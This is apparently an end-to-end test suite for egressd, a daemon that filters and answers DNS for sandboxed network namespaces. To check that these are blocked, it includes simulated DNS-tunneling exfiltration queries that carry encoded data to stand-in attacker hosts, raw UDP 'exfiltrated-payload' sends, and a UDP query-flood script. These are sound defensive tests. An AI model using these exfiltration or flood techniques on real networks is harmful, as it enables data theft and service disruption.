// egressd answers the sandboxes' DNS (issue 14), on the real path: `egressd iptables --apply`
// redirects the sandbox namespace's port 53 (UDP and TCP, any server, IPv4 and IPv6) to the DNS
// listener of an egressd process in the router namespace, which forwards to the rig's dnsmasq
// (its query log shows what arrived). Real clients: dig, curl, python3, node.

import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createRig, rigUnavailableReason, type Rig } from '../helpers/netns-rig.ts';
import type { DaemonProcess } from '../helpers/daemon-process.ts';
import { action, field, connectionFields } from '../helpers/log-line.ts';
import { adminIn, curlIn } from '../helpers/curl.ts';
import { CA, E2E_PORTS, MAIN, NODE, serveIn, writeConfig } from '../helpers/e2e-daemon.ts';

const PORTS = { ...E2E_PORTS, dns: 15053 };
const TOKEN = 'e2e-dns-token';

const ALLOWED = '198.18.1.2';
const ALLOWED6 = '2001:db8:0:2::2';
const OTHER = '198.18.1.3'; // other.test: never resolved for sandbox a
const BAD6 = '2001:db8:0:2::4';
const GOOD6 = '2001:db8:0:2::6';
const ROT1 = '198.18.1.7';
const ROT2 = '198.18.1.8';
const CATCH = '198.18.1.99'; // a UDP catcher on port 53: proof that nothing arrives

// HTTPS RR (RFC 9460): priority 1, target ".", alpn=h2, ipv4hint=198.18.1.2, ech=deadbeef (keys ascending).
const HTTPS_RDATA = '0001' + '00' + '0001' + '0003' + '026832' + '0004' + '0004' + 'c6120102' + '0005' + '0004' + 'deadbeef';

const RECORDS = {
  'allowed.test': [ALLOWED, ALLOWED6],
  'other.test': [OTHER],
  'bad.test': [BAD6],
  'good.test': [GOOD6],
  'ech.test': [ALLOWED],
};

// Sends raw bytes over UDP and reports whether anything came back (python3, a real client).
const RAW_UDP = `
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1.5)
s.sendto(sys.argv[3].encode(), (sys.argv[1], int(sys.argv[2])))
try:
    print("answer", len(s.recv(4096)))
except socket.timeout:
    print("silence")
`;

// Connects, waits for the server to speak first, prints what it said or how it ended.
const GREETING = `
import socket, sys
fam = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
s = socket.socket(fam, socket.SOCK_STREAM)
s.settimeout(8)
try:
    s.connect((sys.argv[1], int(sys.argv[2])))
    if len(sys.argv) > 3: s.sendall(sys.argv[3].encode())
    d = s.recv(100)
    print("got", d.decode(errors="replace").strip() if d else "eof")
except Exception as e:
    print("error", type(e).__name__)
`;

// Catches UDP on port 53 of an address in the internet namespace; prints each datagram's size.
const CATCHER = `
const s = require('node:dgram').createSocket('udp4');
s.on('message', (m, r) => console.log(JSON.stringify({ bytes: m.length, from: r.address })));
s.bind(53, process.argv[1], () => console.log('ready'));
`;

// A flood: `count` queries for one name over UDP as fast as the socket takes them; prints how
// many answers came back with each rcode.
const FLOOD = `
const dgram = require('node:dgram');
const [server, name, countText] = process.argv.slice(1);
const count = Number(countText);
const s = dgram.createSocket('udp4');
const rcodes = {};
let answered = 0;
const q = (id) => {
  const labels = name.split('.').flatMap((l) => [Buffer.from([l.length]), Buffer.from(l)]);
  return Buffer.concat([Buffer.from([id >> 8, id & 255, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...labels, Buffer.from([0, 0, 1, 0, 1])]);
};
s.on('message', (m) => {
  const rc = m[3] & 15;
  rcodes[rc] = (rcodes[rc] ?? 0) + 1;
  if (++answered === count) done();
});
const done = () => { console.log(JSON.stringify({ answered, rcodes })); process.exit(0); };
setTimeout(done, 5000);
// Paced in batches, so what the listener sees is the flood, not the socket buffers overflowing.
let sent = 0;
const batch = () => { for (let i = 0; i < 50 && sent < count; i++) s.send(q(sent++), 53, server); if (sent < count) setTimeout(batch, 10); };
s.bind(0, batch);
`;

const skip = rigUnavailableReason();
if (skip) console.warn(`e2e dns skipped: ${skip}`);

describe.skipIf(skip !== null)("egressd answers the sandboxes' DNS", () => {
  let rig: Rig;
  let daemon: DaemonProcess;
  let dir: string;
  const caught: string[] = [];

  beforeAll(async () => {
    rig = await createRig();
    dir = mkdtempSync(join(tmpdir(), 'egressd-e2e-dns-'));
    await rig.servers([ALLOWED, OTHER, ROT1, ROT2, CATCH, ALLOWED6, BAD6, GOOD6]);
    await rig.dns({ ...RECORDS, 'rot.allowed.test': [ROT1] }, { rr: [{ name: 'ech.test', type: 65, hex: HTTPS_RDATA }] });
    const catcher = rig.spawnIn('internet', NODE, ['-e', CATCHER, CATCH]);
    await new Promise<void>((ready) => createInterface({ input: catcher.stdout! }).on('line', (l) => (l === 'ready' ? ready() : caught.push(l))));
    const config = {
      listen: {
        http: ['0.0.0.0:15080', '[::]:15080'],
        tls: ['0.0.0.0:15443', '[::]:15443'],
        tcp: ['0.0.0.0:15001', '[::]:15001'],
        dns: ['0.0.0.0:15053', '[::]:15053'],
      },
      admin: { listen: '127.0.0.1:9901', token: TOKEN },
      dns: { servers: [rig.dnsServer], sandboxServers: ['8.8.8.8'], limits: { perSecond: 50, burst: 100 } },
      upstream: { dial: 'verify' },
      peek: { timeoutMs: 3000, firstByteTimeoutMs: 500 },
      protected: { except: ['198.18.0.0/15', '2001:db8::/32'] },
      log: { level: 'debug' },
      sandboxes: [
        // IPv4 source: a domain allow list. IPv6 source (sb-b, through the API below): allow-all.
        { id: 'sb-a', sources: [rig.sandboxV4], network: { mode: 'block-all', egress: { allowed_domains: ['allowed.test', 'rot.allowed.test', 'ech.test'] } } },
      ],
    };
    daemon = await serveIn(rig, 'router', writeConfig(dir, config));
    await rig.redirect(PORTS);
    const put = await api('PUT', '/api/v1/sandboxes/sb-b', { sources: [rig.sandboxV6], network: { mode: 'allow-all' } });
    expect(put.stdout).toContain('sb-b');
  });

  afterAll(async () => {
    await daemon?.stop('SIGTERM');
    await rig?.teardown();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  const sh = (cmd: string, args: string[], timeoutMs = 20_000) => rig.execIn('sandbox', cmd, args, { timeoutMs });
  const dig = async (...args: string[]): Promise<string> => (await sh('dig', ['+time=3', '+tries=1', ...args])).stdout;
  const api = (method: string, path: string, body?: unknown) => adminIn(rig, TOKEN, method, path, body);

  it('resolves allowed names over UDP and TCP, v4 and v6, answers NXDOMAIN for others, and the refused names never reach the resolver', async () => {
    expect(await dig(`@${rig.dnsServer}`, '+short', 'allowed.test', 'A')).toBe(`${ALLOWED}\n`);
    expect(await dig(`@${rig.dnsServer}`, '+short', '+tcp', 'ALLOWED.test.', 'AAAA')).toBe(`${ALLOWED6}\n`);
    expect(await dig(`@${rig.dnsServerV6}`, '+short', 'good.test', 'AAAA')).toBe(`${GOOD6}\n`);
    expect(await dig(`@${rig.dnsServerV6}`, '+short', '+tcp', 'allowed.test', 'A')).toBe(`${ALLOWED}\n`);
    expect(await dig(`@${rig.dnsServer}`, 'other.test', 'A')).toMatch(/status: NXDOMAIN/);
    expect(await dig(`@${rig.dnsServer}`, 'c2VjcmV0LWRhdGE.other.test', 'TXT')).toMatch(/status: NXDOMAIN/);
    const log = rig.dnsLog();
    expect(log).toMatch(/query\[A\] allowed\.test from 198\.18\.1\.1/);
    expect(log).not.toContain('other.test');
    expect(log).not.toContain('c2VjcmV0');
    const line = await daemon.waitFor((l) => action(l) === 'dns-query' && field(l, 'dns.question.name') === 'c2vjcmv0lwrhdge.other.test');
    expect(line).toMatchObject({
      event: { reason: 'not-allowed' },
      dns: { question: { type: 'TXT' } },
      rule: { name: 'mode "block-all"' },
      egressd: { sandbox: 'sb-a', verdict: 'refuse' },
    });
  });

  it('answers dig @8.8.8.8 itself and lets no raw UDP to port 53 leave the host', async () => {
    expect(await dig('@8.8.8.8', 'ZGF0YQ.attacker.test', 'A')).toMatch(/status: NXDOMAIN/);
    // Raw bytes to any server's port 53 reach the DNS listener instead: read as a header
    // (opcode not QUERY), they get egressd's own 12-byte NOTIMP and go nowhere else; bytes too
    // short for a header get silence.
    expect((await sh('python3', ['-c', RAW_UDP, '8.8.8.8', '53', 'exfiltrated-payload'])).stdout.trim()).toBe('answer 12');
    expect((await sh('python3', ['-c', RAW_UDP, CATCH, '53', 'exfiltrated-payload'])).stdout.trim()).toBe('answer 12');
    expect((await sh('python3', ['-c', RAW_UDP, CATCH, '53', 'short'])).stdout.trim()).toBe('silence');
    expect(await dig(`@${CATCH}`, 'more-data.attacker.test', 'A')).toMatch(/status: NXDOMAIN/);
    await new Promise((r) => setTimeout(r, 300));
    expect(caught).toEqual([]);
    expect(rig.dnsLog()).not.toContain('attacker');
  });

  it('reaches a server-first service on port 22 through a name resolved by egressd, and refuses it elsewhere', async () => {
    expect(await dig(`@${rig.dnsServer}`, '+short', 'allowed.test', 'A')).toBe(`${ALLOWED}\n`);
    expect((await sh('python3', ['-c', GREETING, ALLOWED, '22'])).stdout.trim()).toBe('got 220 hello');
    const ok = await daemon.outcomeAt(`${ALLOWED}:22`);
    expect(connectionFields(ok)).toMatchObject({
      'egressd.sandbox': 'sb-a',
      'egressd.verdict': 'allow',
      'destination.domain': undefined,
      'egressd.dns_names': ['allowed.test'],
      'egressd.upstream.ip': ALLOWED,
    });
    expect(String(field(ok, 'rule.name'))).toBe('dns "allowed.test": allowed_domains "allowed.test"');
    // OTHER's name was refused, so the sandbox never resolved it: judged by address, refused.
    expect((await sh('python3', ['-c', GREETING, OTHER, '22'])).stdout.trim()).toMatch(/^(got eof|error \w+)$/);
    expect(connectionFields(await daemon.outcomeAt(`${OTHER}:22`))).toMatchObject({
      'egressd.sandbox': 'sb-a',
      'egressd.verdict': 'refuse',
      'event.reason': 'default-block',
    });
    expect(rig.events().filter((e) => e.local === `${OTHER}:22`)).toEqual([]);
  });

  it('refuses a nameless connection to an address remembered from a name denied after it was resolved', async () => {
    expect(await dig(`@${rig.dnsServerV6}`, '+short', 'bad.test', 'AAAA')).toBe(`${BAD6}\n`);
    expect(await dig(`@${rig.dnsServerV6}`, '+short', 'good.test', 'AAAA')).toBe(`${GOOD6}\n`);
    const eff = JSON.parse((await api('GET', '/api/v1/sandboxes/sb-b/effective')).stdout);
    expect(eff.dns_remembered).toEqual(
      expect.arrayContaining([expect.objectContaining({ address: BAD6, names: [expect.objectContaining({ name: 'bad.test' })] })]),
    );
    const put = await api('PUT', '/api/v1/sandboxes/sb-b/network', { mode: 'allow-all', egress: { denied_domains: ['bad.test'] } });
    expect(put.stdout).toContain('bad.test');
    // Port 7000 echoes; the client's bytes are neither TLS nor HTTP, so it carries no name.
    expect((await sh('python3', ['-c', GREETING, BAD6, '7000', 'ping'])).stdout.trim()).toMatch(/^(got eof|error \w+)$/);
    const refused = await daemon.outcomeAt(`[${BAD6}]:7000`);
    expect(connectionFields(refused)).toMatchObject({
      'egressd.sandbox': 'sb-b',
      'egressd.verdict': 'refuse',
      'event.reason': 'deny-rule',
      'egressd.dns_names': ['bad.test'],
    });
    expect(String(field(refused, 'rule.name'))).toBe('dns "bad.test": denied_domains "bad.test"');
    expect((await sh('python3', ['-c', GREETING, GOOD6, '7000', 'ping'])).stdout.trim()).toBe('got ping');
    expect(connectionFields(await daemon.outcomeAt(`[${GOOD6}]:7000`))).toMatchObject({
      'egressd.sandbox': 'sb-b',
      'egressd.verdict': 'allow',
      'egressd.dns_names': ['good.test'],
    });
    // And the denied name is no longer resolved at all.
    expect(await dig(`@${rig.dnsServerV6}`, 'bad.test', 'AAAA')).toMatch(/status: NXDOMAIN/);
  });

  it('strips the ech parameter from an HTTPS record', async () => {
    const direct = await rig.execIn('router', 'dig', ['+short', `@${rig.dnsServer}`, 'ech.test', 'HTTPS']);
    expect(direct.stdout).toMatch(/ech=/);
    const via = await dig(`@${rig.dnsServer}`, '+short', 'ech.test', 'HTTPS');
    expect(via).toMatch(/^1 \. alpn="h2" ipv4hint=198\.18\.1\.2\n$/);
  });

  it('rate-limits a query flood from one sandbox while another resolves normally', async () => {
    const flood = sh(NODE, ['-e', FLOOD, rig.dnsServer, 'allowed.test', '1500']);
    const other: string[] = [];
    for (let i = 0; i < 5; i++) other.push(await dig(`@${rig.dnsServerV6}`, '+short', 'good.test', 'AAAA'));
    const f = JSON.parse((await flood).stdout) as { answered: number; rcodes: Record<string, number> };
    expect(other).toEqual(Array(5).fill(`${GOOD6}\n`));
    // NOERROR (0) for the burst of 100 and 50/s after it, REFUSED (5) past it. (Under load the
    // kernel may drop some datagrams of the flood before the listener reads them.)
    const refused = f.rcodes['5'] ?? 0;
    const answered = f.rcodes['0'] ?? 0;
    expect(answered, JSON.stringify(f)).toBeGreaterThanOrEqual(100);
    expect(answered, JSON.stringify(f)).toBeLessThan(400);
    expect(refused, JSON.stringify(f)).toBeGreaterThan(2 * answered);
    const metrics = (await curlIn(rig, 'router', 'http://127.0.0.1:9901/metrics')).stdout;
    // A REFUSED is either past the rate or past the in-flight cap (the flood outruns the upstream).
    const countOf = (verdict: string): number =>
      Number(new RegExp(`egressd_dns_queries_total\\{verdict="${verdict}",type="A"\\} (\\d+)`).exec(metrics)?.[1] ?? 0);
    expect(countOf('rate-limited')).toBeGreaterThan(0);
    expect(countOf('rate-limited') + countOf('inflight-limited')).toBeGreaterThanOrEqual(refused);
    const limited = daemon.lines.filter((l) => action(l) === 'dns-query' && field(l, 'event.reason') === 'rate-limited');
    // One line per sandbox per second, not one per query.
    expect(limited.length).toBeGreaterThan(0);
    expect(limited.length).toBeLessThan(20);
  });

  it('under upstream.dial verify, a name whose answer rotated is not refused at the address the sandbox was given', async () => {
    expect(await dig(`@${rig.dnsServer}`, '+short', 'rot.allowed.test', 'A')).toBe(`${ROT1}\n`);
    await rig.dns({ ...RECORDS, 'rot.allowed.test': [ROT2] }, { rr: [{ name: 'ech.test', type: 65, hex: HTTPS_RDATA }] });
    const r = await curlIn(rig, 'sandbox', 'https://rot.allowed.test/', { resolve: ROT1, cacert: CA });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain(ROT1);
    expect(connectionFields(await daemon.outcomeAt(`${ROT1}:443`))).toMatchObject({
      'destination.domain': 'rot.allowed.test',
      'egressd.verdict': 'allow',
      'egressd.upstream.ip': ROT1,
    });
    // An address egressd never gave for the name is still refused under verify.
    const spoof = await curlIn(rig, 'sandbox', 'https://allowed.test/', { resolve: OTHER, cacert: CA });
    expect(spoof.code).not.toBe(0);
    expect(connectionFields(await daemon.outcomeAt(`${OTHER}:443`))).toMatchObject({ 'egressd.verdict': 'refuse', 'event.reason': 'dns-mismatch' });
  });

  it('redirects the same way with the nft backend, over IPv4 UDP and IPv6 TCP', async () => {
    const removed = await rig.execIn('router', NODE, [MAIN, 'iptables', '--remove'], { timeoutMs: 30_000 });
    expect(removed.code, removed.stderr).toBe(0);
    await rig.redirect(PORTS, { backend: 'nft' });
    expect(await dig(`@${rig.dnsServer}`, '+short', 'allowed.test', 'A')).toBe(`${ALLOWED}\n`);
    expect(await dig(`@${rig.dnsServerV6}`, '+short', '+tcp', 'good.test', 'AAAA')).toBe(`${GOOD6}\n`);
    expect(await dig('@8.8.8.8', 'nft-data.attacker.test', 'A')).toMatch(/status: NXDOMAIN/);
    expect(rig.dnsLog()).not.toContain('nft-data');
  });
});
